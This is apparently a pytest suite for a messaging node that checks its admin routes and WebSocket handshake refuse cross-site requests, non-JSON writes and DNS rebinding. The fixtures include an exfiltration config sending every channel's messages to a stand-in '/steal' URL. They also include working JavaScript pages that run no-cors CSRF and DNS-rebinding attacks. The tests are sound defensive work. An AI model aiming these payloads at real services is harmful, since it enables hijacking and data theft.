"""What a node refuses from browsers (docs/reliability.md#security): cross-site calls to admin
routes, admin writes that are not JSON, and DNS rebinding on admin routes and the WebSocket
handshake; what it keeps answering: curl on the node's machine, the node's own pages, allowed
origins and hosts, clients that send no Origin.

Raw HTTP requests with ``Host``, ``Origin`` and ``Sec-Fetch-Site`` written by hand, against a
live node; then the attacks themselves in a real Chromium: a page of another origin posting
``text/plain`` with ``mode: "no-cors"`` (no preflight), and a page whose DNS name is re-pointed
at the node."""

from __future__ import annotations

import asyncio
import base64
import http.server
import os
import re
import threading
from collections.abc import Callable, Iterator
from typing import Any

import orjson
import pytest
from playwright.sync_api import Browser, sync_playwright

from pully_tornado.errors import ConfigError
from pully_tornado.handlers import guards
from pully_tornado.node import Node
from pully_tornado.settings import Settings

from .admin_http import admin, http_publish
from .support import PullyProcess, WSClient, free_port, wait_for
from .test_browser import CHROMIUM_ARGS, chromium

Processes = Callable[..., PullyProcess]
Reply = tuple[int, dict[str, str], bytes]

JSON = "application/json"
# What the page in the report installed: every message of every channel to the attacker's URL.
STEAL_EVERYTHING = {
    "channels": {"*": ["exfil"]},
    "functions": {"exfil": {"runtime": "http", "url": "http://127.0.0.1:9/steal"}},
}
HARMLESS = {"channels": {"chat": []}}  # for writes that go through: "chat" keeps working


@pytest.fixture
def engine() -> str:
    return "memory"  # nothing here depends on the broker


async def raw(
    port: int, method: str, path: str, headers: dict[str, str], body: bytes = b""
) -> Reply:
    """One HTTP/1.1 request sent exactly as given (no header added but Content-Length on a
    body): status, headers (lowercased names), body."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    try:
        lines = [f"{method} {path} HTTP/1.1", *(f"{k}: {v}" for k, v in headers.items())]
        if body or method == "POST":
            lines.append(f"Content-Length: {len(body)}")
        writer.write(("\r\n".join(lines) + "\r\n\r\n").encode("latin-1") + body)
        head = (await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 10)).decode("latin-1")
        status_line, *header_lines = head.rstrip("\r\n").split("\r\n")
        got = {k.lower(): v.strip() for k, _, v in (h.partition(":") for h in header_lines)}
        size = int(got.get("content-length", "0"))
        content = await asyncio.wait_for(reader.readexactly(size), 10) if size else b""
        return int(status_line.split()[1]), got, content
    finally:
        writer.close()


def handshake(host: str, origin: str | None = None, **extra: str) -> dict[str, str]:
    """The headers of a WebSocket handshake, as a browser (with ``origin``) or a server sends it."""
    headers = {"Host": host, "Upgrade": "websocket", "Connection": "Upgrade",
               "Sec-WebSocket-Key": base64.b64encode(os.urandom(16)).decode(),
               "Sec-WebSocket-Version": "13"}  # fmt: skip
    if origin is not None:
        headers["Origin"] = origin
    return headers | {k.replace("_", "-"): v for k, v in extra.items()}


def refusal(reply: Reply, status: int, code: str) -> str:
    """The message of a JSON error envelope with that status and code."""
    got, headers, body = reply
    assert got == status, (got, body)
    assert headers["content-type"] == JSON
    envelope = orjson.loads(body)
    assert envelope["status"] == status and envelope["code"] == code, envelope
    assert envelope["error"] == [{"message": envelope["message"]}]
    return str(envelope["message"])


class Admin:
    """The admin routes of the test node over raw HTTP, and what they have changed."""

    def __init__(self, port: int, node: Node) -> None:
        self.port, self.node = port, node
        self.host = f"127.0.0.1:{port}"

    async def post(self, path: str, body: Any, **headers: str) -> Reply:
        """POST ``body`` (JSON, or multipart/form-data when the headers say so); a header
        given as "" is not sent."""
        sent = {"Host": self.host, "Content-Type": JSON}
        sent |= {k.replace("_", "-"): v for k, v in headers.items()}
        raw_body = orjson.dumps(body)
        if sent["Content-Type"].startswith("multipart/form-data"):  # as a <form> posts it
            field = b'Content-Disposition: form-data; name="json"\r\n\r\n' + raw_body
            raw_body = b"--x\r\n" + field + b"\r\n--x--\r\n"
        sent = {k: v for k, v in sent.items() if v}
        return await raw(self.port, "POST", path, sent, raw_body)

    async def get(self, path: str, **headers: str) -> Reply:
        headers = {"Host": self.host} | headers
        return await raw(
            self.port, "GET", path, {k.replace("_", "-"): v for k, v in headers.items()}
        )

    async def both_writes(self, document: Any = STEAL_EVERYTHING, **headers: str) -> list[Reply]:
        """The attack's two requests: install a function on every channel, publish."""
        return [
            await self.post("/relationships", document, **headers),
            await self.post("/publish", {"channel": "chat", "data": "forged"}, **headers),
        ]

    def state(self) -> tuple[Any, Any]:
        manager = self.node.relationships
        return manager.version, manager.current.to_json()


@pytest.fixture
def api(http_port: int, node: Node, app: Any, http_server: Any) -> Admin:
    return Admin(http_port, node)


async def nothing_was_published(api: Admin, subscriber: WSClient) -> None:
    await subscriber.no_message(0.3)
    status, _, body = await api.post("/publish", {"channel": "chat", "data": "real"})
    assert (status, orjson.loads(body)["offset"]) == (200, 1)  # the first message of "chat"


# -- admin routes: cross-site requests ---------------------------------------------------------

CROSS_SITE = {
    "another origin": ({"Origin": "http://evil.example"}, "Origin http://evil.example is not"),
    "another port": ({"Origin": "http://127.0.0.1:1"}, "Origin http://127.0.0.1:1 is not"),
    "an opaque origin": ({"Origin": "null"}, "Origin null is not this node's own"),
    "Sec-Fetch-Site cross-site": (
        {"Origin": "http://evil.example", "Sec-Fetch-Site": "cross-site"},
        "cross-site request refused (Sec-Fetch-Site: cross-site)",
    ),
    "Sec-Fetch-Site same-site": (
        {"Sec-Fetch-Site": "same-site"},
        "cross-site request refused (Sec-Fetch-Site: same-site)",
    ),
}


@pytest.mark.gen_test
@pytest.mark.parametrize("case", list(CROSS_SITE))
@pytest.mark.parametrize("content_type", ["text/plain;charset=UTF-8", JSON])
async def test_cross_site_browser_writes_to_admin_routes_are_refused(
    api: Admin, connect: Callable[..., Any], case: str, content_type: str
) -> None:
    """What the page in the report sent (text/plain, no preflight), and the same as JSON: 403,
    saying why, and nothing changes."""
    headers, why = CROSS_SITE[case]
    subscriber = await connect()
    await subscriber.subscribe("chat")
    before = api.state()
    replies = await api.both_writes(Content_Type=content_type, **headers)
    for reply in replies:
        message = refusal(reply, 403, "forbidden")
        assert why in message, message
    assert api.state() == before
    await nothing_was_published(api, subscriber)


@pytest.mark.gen_test
@pytest.mark.parametrize("case", list(CROSS_SITE))
async def test_cross_site_reads_of_the_relationships_are_refused(api: Admin, case: str) -> None:
    headers, why = CROSS_SITE[case]
    message = refusal(await api.get("/relationships", **headers), 403, "forbidden")
    assert why in message


# -- admin routes: content type ----------------------------------------------------------------

NOT_JSON = {
    "text/plain;charset=UTF-8": "this request sent Content-Type: text/plain;charset=UTF-8",
    "application/x-www-form-urlencoded": "sent Content-Type: application/x-www-form-urlencoded",
    "multipart/form-data; boundary=x": "sent Content-Type: multipart/form-data; boundary=x",
    "application/json; charset=latin-1": "sent Content-Type: application/json; charset=latin-1",
    "application/jsonp": "sent Content-Type: application/jsonp",
    "": "this request sent no Content-Type",
}


@pytest.mark.gen_test
@pytest.mark.parametrize("content_type", list(NOT_JSON))
async def test_admin_writes_need_a_json_content_type(
    api: Admin, connect: Callable[..., Any], content_type: str
) -> None:
    """curl's default (-d: a form), a page's simple request (text/plain, forms): 415 naming what
    was sent, and nothing changes."""
    subscriber = await connect()
    await subscriber.subscribe("chat")
    before = api.state()
    for reply in await api.both_writes(Content_Type=content_type):
        message = refusal(reply, 415, "unsupported_media_type")
        assert message.startswith("admin writes need Content-Type: application/json; ")
        assert message.endswith(NOT_JSON[content_type]), message
    assert api.state() == before
    await nothing_was_published(api, subscriber)


@pytest.mark.gen_test
@pytest.mark.parametrize(
    "content_type", [JSON, "application/json; charset=utf-8", "Application/JSON;charset=UTF-8"]
)
async def test_json_admin_writes_from_this_machine_keep_working(
    api: Admin, content_type: str
) -> None:
    """curl on the node's machine: no Origin, no Sec-Fetch-*."""
    before = api.state()
    for status, _, body in await api.both_writes(HARMLESS, Content_Type=content_type):
        assert status == 200, body
    assert api.state() != before
    assert (await api.get("/relationships"))[0] == 200


@pytest.mark.gen_test
@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "[::1]"])
async def test_the_nodes_own_pages_may_call_admin_routes(api: Admin, host: str) -> None:
    """A page served by the node, addressed by IP address or localhost, is same-origin."""
    page = {"Host": f"{host}:{api.port}", "Origin": f"http://{host}:{api.port}",
            "Sec-Fetch-Site": "same-origin"}  # fmt: skip
    for status, _, body in await api.both_writes(HARMLESS, **page):
        assert status == 200, body
    assert (await api.get("/relationships", **page))[0] == 200


# -- DNS rebinding -----------------------------------------------------------------------------


@pytest.mark.gen_test
async def test_dns_rebinding_is_refused_on_admin_routes(api: Admin) -> None:
    """A page on evil.example whose name now resolves to 127.0.0.1 is same-origin as far as the
    browser knows: its requests carry a matching Host and Origin, or no Origin at all (GET)."""
    host = f"evil.example:{api.port}"
    before = api.state()
    for reply in await api.both_writes(Host=host, Origin=f"http://{host}"):
        message = refusal(reply, 403, "forbidden")
        assert f"Origin http://{host} names the host '{host}', a DNS name" in message
        assert "DNS rebinding" in message and "PULLY_ALLOWED_HOSTS" in message
    message = refusal(await api.get("/relationships", Host=host), 403, "forbidden")
    assert message.startswith(f"Host '{host}' is not trusted while PULLY_ADMIN_TOKEN is unset")
    assert api.state() == before


@pytest.mark.gen_test
@pytest.mark.parametrize("sec_fetch_site", [None, "same-origin"])
async def test_dns_rebinding_is_refused_on_the_websocket_handshake(
    http_port: int, app: Any, http_server: Any, sec_fetch_site: str | None
) -> None:
    host = f"evil.example:{http_port}"
    extra = {"Sec-Fetch-Site": sec_fetch_site} if sec_fetch_site else {}
    reply = await raw(http_port, "GET", "/ws", handshake(host, f"http://{host}") | extra)
    message = refusal(reply, 403, "forbidden")
    assert message.startswith("browser page not allowed to connect: Origin http://evil.example")
    assert "DNS rebinding" in message


@pytest.mark.gen_test
@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "[::1]"])
async def test_same_origin_pages_on_loopback_may_connect(
    http_port: int, app: Any, http_server: Any, host: str
) -> None:
    address = f"{host}:{http_port}"
    status, headers, _ = await raw(http_port, "GET", "/ws", handshake(address, f"http://{address}"))
    assert status == 101 and headers["upgrade"].lower() == "websocket"


@pytest.mark.gen_test
@pytest.mark.parametrize("host", ["127.0.0.1", "evil.example"])
async def test_clients_without_origin_may_connect(
    http_port: int, app: Any, http_server: Any, host: str
) -> None:
    """Not a browser (a server, a CLI, a mobile app): no page to protect, whatever the Host."""
    status, _, _ = await raw(http_port, "GET", "/ws", handshake(f"{host}:{http_port}"))
    assert status == 101


@pytest.mark.gen_test
async def test_pages_of_other_origins_may_not_connect(
    http_port: int, app: Any, http_server: Any
) -> None:
    headers = handshake(
        f"127.0.0.1:{http_port}", "https://evil.example", Sec_Fetch_Site="cross-site"
    )
    message = refusal(await raw(http_port, "GET", "/ws", headers), 403, "forbidden")
    assert message == (
        "browser page not allowed to connect: Origin https://evil.example is not this node's "
        f"own (Host: 127.0.0.1:{http_port}), and not in PULLY_ALLOWED_ORIGINS"
    )


class TestAllowedOrigins:
    """A deployment behind a load balancer whose app lives on its own domain."""

    @pytest.fixture
    def settings_overrides(self) -> dict[str, Any]:
        return {"allowed_origins": ("https://app.example.com", "https://*.app.example.com")}

    @pytest.mark.gen_test
    @pytest.mark.parametrize("origin", ["https://app.example.com", "https://eu.app.example.com"])
    async def test_allowed_origins_may_connect(self, api: Admin, origin: str) -> None:
        headers = handshake("pully.example.com", origin, Sec_Fetch_Site="cross-site")
        assert (await raw(api.port, "GET", "/ws", headers))[0] == 101

    @pytest.mark.gen_test
    async def test_allowed_origins_do_not_open_admin_routes(self, api: Admin) -> None:
        before = api.state()
        for reply in await api.both_writes(Origin="https://app.example.com"):
            refusal(reply, 403, "forbidden")
        assert api.state() == before


class TestAllowedHosts:
    """The node's own pages under the names the operator gave it."""

    @pytest.fixture
    def settings_overrides(self) -> dict[str, Any]:
        return {"allowed_hosts": ("pully.example.com", "*.pully.test")}

    @pytest.mark.gen_test
    @pytest.mark.parametrize(
        "host", ["pully.example.com", "PULLY.example.com", "eu.pully.test:8443"]
    )
    async def test_pages_under_allowed_hosts_are_the_nodes_own(self, api: Admin, host: str) -> None:
        page = {"Host": host, "Origin": f"https://{host}", "Sec-Fetch-Site": "same-origin"}
        assert (await raw(api.port, "GET", "/ws", handshake(host, f"https://{host}")))[0] == 101
        for status, _, body in await api.both_writes(HARMLESS, **page):
            assert status == 200, body

    @pytest.mark.gen_test
    async def test_other_names_are_still_refused(self, api: Admin) -> None:
        host = f"evil.example:{api.port}"
        reply = await raw(api.port, "GET", "/ws", handshake(host, f"http://{host}"))
        assert "DNS rebinding" in refusal(reply, 403, "forbidden")
        refusal(
            await api.get("/relationships", Host="pully.example.com.evil.example"), 403, "forbidden"
        )


class TestWithAdminToken:
    """A token is what a rebinding page cannot have: the Host check is for loopback trust only,
    so scripts calling the node by its DNS name with the token keep working."""

    TOKEN = "security-admin-token"

    @pytest.fixture
    def settings_overrides(self) -> dict[str, Any]:
        return {"admin_token": self.TOKEN}

    @pytest.mark.gen_test
    async def test_a_dns_name_with_the_token_is_served(self, api: Admin) -> None:
        auth = f"Bearer {self.TOKEN}"
        writes = await api.both_writes(HARMLESS, Host="pully.example.com", Authorization=auth)
        for status, _, body in writes:
            assert status == 200, body

    @pytest.mark.gen_test
    async def test_the_token_opens_no_cross_site_request_and_no_simple_request(
        self, api: Admin
    ) -> None:
        auth = f"Bearer {self.TOKEN}"
        before = api.state()
        for reply in await api.both_writes(Authorization=auth, Origin="http://evil.example"):
            refusal(reply, 403, "forbidden")
        for reply in await api.both_writes(Authorization=auth, Content_Type="text/plain"):
            refusal(reply, 415, "unsupported_media_type")
        assert api.state() == before


# -- settings and the start-up log -------------------------------------------------------------


def test_allowed_hosts_are_host_names() -> None:
    settings = Settings.load({"PULLY_ALLOWED_HOSTS": "Pully.Example.com, *.pully.test ,"})
    assert settings.allowed_hosts == ("pully.example.com", "*.pully.test")
    for bad in ("https://pully.example.com", "pully.example.com:443", "[pully"):
        with pytest.raises(ConfigError, match="PULLY_ALLOWED_HOSTS"):
            Settings.load({"PULLY_ALLOWED_HOSTS": bad})


@pytest.mark.parametrize(
    ("host", "trusted"),
    [("127.0.0.1:8080", True), ("10.0.0.7", True), ("[::1]:8080", True), ("LOCALHOST:80", True),
     ("pully.example.com", True), ("a.pully.test:1", True), ("evil.example:8080", False),
     ("localhost.evil.example", False), ("pully.example.com.evil.example", False),
     ("", False), ("127.0.0.1:8080@evil.example", False), ("[::1", False)],
)  # fmt: skip
def test_trusted_hosts(host: str, trusted: bool) -> None:
    assert guards.trusted_host(host, ("pully.example.com", "*.pully.test")) is trusted


@pytest.mark.slow
def test_the_start_up_log_says_which_pages_are_allowed(processes: Processes) -> None:
    node = processes(env={"PULLY_ALLOWED_HOSTS": "pully.example.com",
                          "PULLY_ALLOWED_ORIGINS": "https://app.example.com,*"})  # fmt: skip
    log = node.log()
    assert (
        "browser pages allowed: the node's own, when it is addressed as an IP address, localhost "
        "or pully.example.com (PULLY_ALLOWED_HOSTS); other origins, WebSocket only "
        "(PULLY_ALLOWED_ORIGINS): https://app.example.com, *"
    ) in log
    assert "PULLY_ALLOWED_ORIGINS has '*': a page of any site may open WebSockets" in log
    assert (
        "PULLY_ADMIN_TOKEN is unset: admin routes answer only loopback callers addressing the "
        "node as an IP address, localhost or a PULLY_ALLOWED_HOSTS name"
    ) in log


# -- the attacks in Chromium -------------------------------------------------------------------


class Site:
    """A web site on 127.0.0.1 serving one page at ``/``, in a thread (HTTP/1.0: one request per
    connection, so nothing stays connected when it stops)."""

    def __init__(self, page: str, port: int = 0) -> None:
        body = page.encode()

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args: Any) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", port), Handler)
        self.port = self.server.server_address[1]
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()
        self.thread.join(5)


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    """Chromium that resolves the attacker's names to 127.0.0.1, as their DNS would."""
    rules = "MAP attacker.test 127.0.0.1, MAP rebind.test 127.0.0.1"
    with sync_playwright() as pw:
        browser = pw.chromium.launch(
            executable_path=chromium(), args=[*CHROMIUM_ARGS, f"--host-resolver-rules={rules}"]
        )
        yield browser
        browser.close()


ATTACK = """<!doctype html><script>
window.done = (async () => {
  const sent = [];
  for (const [path, body] of %s) {
    try {
      const r = await fetch("%s" + path, {method: "POST", mode: "no-cors", body,
                                          headers: {"Content-Type": "text/plain"}});
      sent.push(r.type);
    } catch (e) { sent.push("failed: " + e); }
  }
  return sent;
})();
</script>"""


def attack_writes() -> str:
    return orjson.dumps([
        ["/relationships", orjson.dumps(STEAL_EVERYTHING).decode()],
        ["/publish", orjson.dumps({"channel": "chat", "data": "forged"}).decode()],
    ]).decode()  # fmt: skip


def access_log(node: PullyProcess, method: str, path: str) -> list[int]:
    """The statuses the node's access log shows for ``method path``."""
    found = re.findall(rf"pully\.access: (\d{{3}}) {method} {re.escape(path)} ", node.log())
    return [int(s) for s in found]


@pytest.mark.slow
@pytest.mark.parametrize("site", ["attacker.test", "127.0.0.1"])
def test_a_page_of_another_origin_cannot_change_or_publish(
    processes: Processes, browser: Browser, site: str
) -> None:
    """The report's attack: with PULLY_ADMIN_TOKEN unset, a page on another site
    (``attacker.test``: Sec-Fetch-Site cross-site) or on another port of 127.0.0.1 (same-site)
    posts text/plain with ``mode: "no-cors"`` to /relationships and /publish. The requests reach
    the node (its access log shows them) and are refused; nothing changes."""
    node = processes()
    _, before = admin(node, "/relationships")
    attacker = Site(ATTACK % (attack_writes(), node.url))
    page = browser.new_page()
    try:
        page.goto(f"http://{site}:{attacker.port}/")
        assert page.evaluate("window.done") == ["opaque", "opaque"]  # sent, answer unreadable
    finally:
        page.close()
        attacker.stop()
    wait_for(lambda: access_log(node, "POST", "/publish"), 5, what="the publish to arrive")
    assert access_log(node, "POST", "/relationships") == [403]
    assert access_log(node, "POST", "/publish") == [403]
    assert admin(node, "/relationships") == (200, before)
    assert http_publish(node, "chat", "real")["offset"] == 1  # nothing was published before


REBOUND = """<!doctype html><script>
window.attack = async () => {
  const write = await fetch("/relationships", {method: "POST", body: %s,
                                               headers: {"Content-Type": "application/json"}});
  const read = await fetch("/relationships");
  const socket = await new Promise((resolve) => {
    const ws = new WebSocket(`ws://${location.host}/ws`);
    ws.onopen = () => { ws.close(); resolve("open"); };
    ws.onerror = () => resolve("refused");
  });
  return {write: write.status, read: read.status, socket, answer: await write.text()};
};
</script>"""


@pytest.mark.slow
def test_a_rebound_dns_name_cannot_use_the_node(browser: Browser, processes: Processes) -> None:
    """DNS rebinding: the page comes from rebind.test:PORT (the attacker's server), then the
    name leads to the node on that same address and port. The browser now calls the node
    same-origin: it may send JSON and read the answers, so only the node can refuse."""
    port = free_port()
    attacker = Site(REBOUND % orjson.dumps(orjson.dumps(STEAL_EVERYTHING).decode()).decode(), port)
    page = browser.new_page()
    try:
        page.goto(f"http://rebind.test:{port}/")
        attacker.stop()
        node = processes(port=port)  # the same origin, another server: what rebinding does
        _, before = admin(node, "/relationships")
        got = page.evaluate("window.attack()")
    finally:
        page.close()
    assert (got["write"], got["read"], got["socket"]) == (403, 403, "refused"), got
    assert "DNS rebinding" in orjson.loads(got["answer"])["message"]
    assert admin(node, "/relationships") == (200, before)
    assert access_log(node, "GET", "/ws") == [403]
